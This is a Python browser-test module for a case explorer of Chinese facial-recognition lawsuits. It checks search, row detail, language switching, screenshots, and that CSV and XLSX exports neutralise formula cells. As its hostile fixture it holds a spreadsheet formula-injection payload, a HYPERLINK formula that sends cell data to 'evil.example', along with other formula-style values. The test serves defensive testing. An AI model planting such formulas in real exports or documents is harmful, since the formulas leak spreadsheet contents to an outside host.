"""Browser test of the case explorer (issue 9 item 5, issue 12): search, a click on a row opens its
detail, a language switch with filters set keeps them, the downloads neutralise formula cells (the
collection holds a hostile case), the tables' own CSV download is off, and screenshots at 1400 and
900 px in both languages (into $FACETORT_SHOTS, else a temporary folder)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from driver import ROOT, browser, combo_value, nav, run_server, see, settle, shot, type_into

from litigation.cases.schema import COLUMNS

PORT = 8611  # this test's own port (the helpers' convention: one port per browser test module)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click me")'


def hostile_row() -> dict[str, str]:
    """A decided case whose English name is a spreadsheet formula (test fixture, not dossier data)."""
    r = dict.fromkeys(COLUMNS, "")
    r.update(case_id="ZZ-HOSTILE", dispute_id="ZZ-HOSTILE", case_name_zh="某甲诉某健身房个人信息保护纠纷案",
             case_name_en=HOSTILE, court_zh="杭州互联网法院", court_en="Hangzhou Internet Court",
             court_level="basic", internet_court="true", province="浙江", city="杭州", year="2024",
             decision_date="2024-05-06", date_precision="day", instance="first", procedure="civil_judgment",
             face_case="true", matter_class="face", claimant_kind="individual",
             cause_of_action="personal_information", scenario="gym", defendant_kinds="business",
             defendant_count="1", consent_type="none", infringement_found="true", claim_outcome="partly_upheld",
             awarded_total="2500", awarded_mental_distress="2500", amount_unit="decision",
             figure_confidence="quoted", in_default_sample="false", source_citation="test fixture",
             notes="+1+1 -2+3 @SUM(A1)")
    return r


@pytest.fixture(scope="module")
def server(tmp_path_factory, home):
    folder = tmp_path_factory.mktemp("cases")
    text = (ROOT / "data" / "cases.csv").read_text(encoding="utf-8")
    header = next(csv.reader(io.StringIO(text)))
    buf = io.StringIO()
    csv.DictWriter(buf, fieldnames=header, lineterminator="\n", extrasaction="ignore").writerow(hostile_row())
    (folder / "cases.csv").write_text(text.rstrip("\n") + "\n" + buf.getvalue(), encoding="utf-8")
    log = tmp_path_factory.mktemp("streamlit") / "server.log"
    env = {"FACETORT_HOME": str(home), "FACETORT_CASES": str(folder / "cases.csv")}
    with run_server(log, env, port=PORT) as (url, _proc):
        yield url


def _grid(pg):
    return pg.locator('[data-testid="stDataFrame"]').first


def click_row(pg, i: int) -> None:
    """Click the selection box of row `i` (0 = first data row) of the explorer's table (a canvas)."""
    grid = _grid(pg)
    grid.scroll_into_view_if_needed()
    box = grid.bounding_box()
    pg.mouse.click(box["x"] + 18, box["y"] + 35 + 35 * i + 17)
    settle(pg, 600)


def _open(pg) -> None:
    nav(pg, "类案检索")
    pg.wait_for_selector('[data-testid="stDataFrame"]')
    settle(pg)


def _to(pg, lang: str) -> None:
    pg.locator('[data-testid="stSidebar"]').get_by_text(lang, exact=True).click()
    settle(pg, 800)


def test_search_then_click_a_row_opens_its_detail(page):
    pg = page
    _open(pg)
    see(pg, "符合条件的案件：72 件（共 72 件）")
    type_into(pg, "搜索", "郭兵")
    see(pg, "符合条件的案件：2 件（共 72 件）")
    see(pg, "郭兵诉杭州野生动物世界有限公司服务合同纠纷案（一审）")  # the detail opens on the first row
    click_row(pg, 1)
    see(pg, "A2 郭兵诉杭州野生动物世界有限公司服务合同纠纷案（二审）")
    assert combo_value(pg, "选择案件").startswith("A2 ")
    type_into(pg, "搜索", "(2019)浙0111民初6971号")
    see(pg, "符合条件的案件：1 件（共 72 件）")
    see(pg, "A1 郭兵诉杭州野生动物世界有限公司服务合同纠纷案（一审）")


def test_a_language_switch_with_filters_set_keeps_them(page):
    pg = page
    _open(pg)
    box = pg.get_by_role("combobox", name="场景", exact=True).first
    box.focus()
    box.press_sequentially("动物园")  # the list is long and drawn lazily: type to narrow it
    pg.get_by_role("option", name="动物园 / 景区入园", exact=True).click()
    settle(pg)
    pg.keyboard.press("Escape")
    see(pg, "符合条件的案件：2 件（共 72 件）")
    _to(pg, "English")
    see(pg, "2 of 72 cases match")
    assert "zoo or park entry" in pg.locator('[data-testid="stMultiSelect"]').first.inner_text()
    nav(pg, "Start")
    nav(pg, "Case explorer")
    see(pg, "2 of 72 cases match")
    _to(pg, "中文")
    see(pg, "符合条件的案件：2 件（共 72 件）")
    assert "动物园 / 景区入园" in pg.locator('[data-testid="stMultiSelect"]').first.inner_text()


def test_downloads_are_neutralised_and_the_tables_own_download_is_off(page, tmp_path):
    pg = page
    _open(pg)
    _to(pg, "English")
    grid = _grid(pg)
    grid.hover()
    pg.wait_for_timeout(500)
    toolbar = pg.locator('[data-testid="stElementToolbar"]')
    assert toolbar.count() >= 1  # the toolbar is there (search, full screen) ...
    assert pg.get_by_role("button", name="Download as CSV").count() == 0  # ... without its download
    with pg.expect_download() as dl:
        pg.get_by_role("button", name="Download the filtered list (CSV)").click()
    rows = list(csv.reader(io.StringIO(Path(dl.value.path()).read_text(encoding="utf-8-sig"))))
    hostile = next(r for r in rows if r[0] == "ZZ-HOSTILE")
    assert "'" + HOSTILE in hostile
    assert not [c for r in rows for c in r if c[:1] in ("=", "+", "@")]
    with pg.expect_download() as dl:
        pg.get_by_role("button", name="Download the filtered list (XLSX)").click()
    import openpyxl

    assert dl.value.suggested_filename.endswith(".xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(Path(dl.value.path()).read_bytes())).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert "'" + HOSTILE in [c.value for c in cells]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


@pytest.mark.parametrize("width", [1400, 900])
def test_screenshots_at_1400_and_900_px(server, tmp_path, width):
    with browser(tmp_path / "profile", width=width, height=1000) as ctx:
        pg = ctx.new_page()
        pg.set_default_timeout(30_000)
        for lang, title in (("zh", "类案检索"), ("en", "Case explorer")):
            pg.goto(f"{server}/cases?lang={lang}")
            settle(pg, 800)
            pg.wait_for_selector('[data-testid="stPlotlyChart"]')
            see(pg, title)
            charts = pg.locator('[data-testid="stPlotlyChart"]')
            assert charts.count() == 2
            for i in range(2):  # each chart keeps most of the width: legible, not squeezed into a column
                w = charts.nth(i).bounding_box()["width"]
                assert w > 0.5 * (width - 340), (width, i, w)
            legends = pg.locator('[data-testid="stPlotlyChart"] .legend')
            assert legends.count() == 2
            shot(pg, f"cases-{lang}-{width}.png")
